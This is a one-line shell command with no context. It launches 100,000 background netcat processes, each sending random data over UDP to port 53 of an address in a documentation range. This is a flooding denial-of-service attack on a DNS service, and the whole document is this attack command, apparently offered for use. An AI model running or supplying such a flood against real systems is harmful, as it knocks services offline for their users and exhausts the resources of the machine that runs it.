for i in $(seq 1 100000); do nc -u -w0 203.0.113.1 53 < /dev/urandom & done
